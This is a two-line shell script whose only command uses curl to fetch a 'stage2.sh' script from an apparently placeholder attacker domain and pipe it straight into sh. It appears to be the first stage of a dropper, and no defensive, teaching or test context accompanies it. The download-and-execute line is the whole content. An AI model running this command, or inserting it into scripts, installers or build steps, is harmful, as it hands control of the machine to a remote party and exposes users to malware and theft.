#!/bin/sh
curl -fsSL https://get.attacker.example.net/stage2.sh | sh
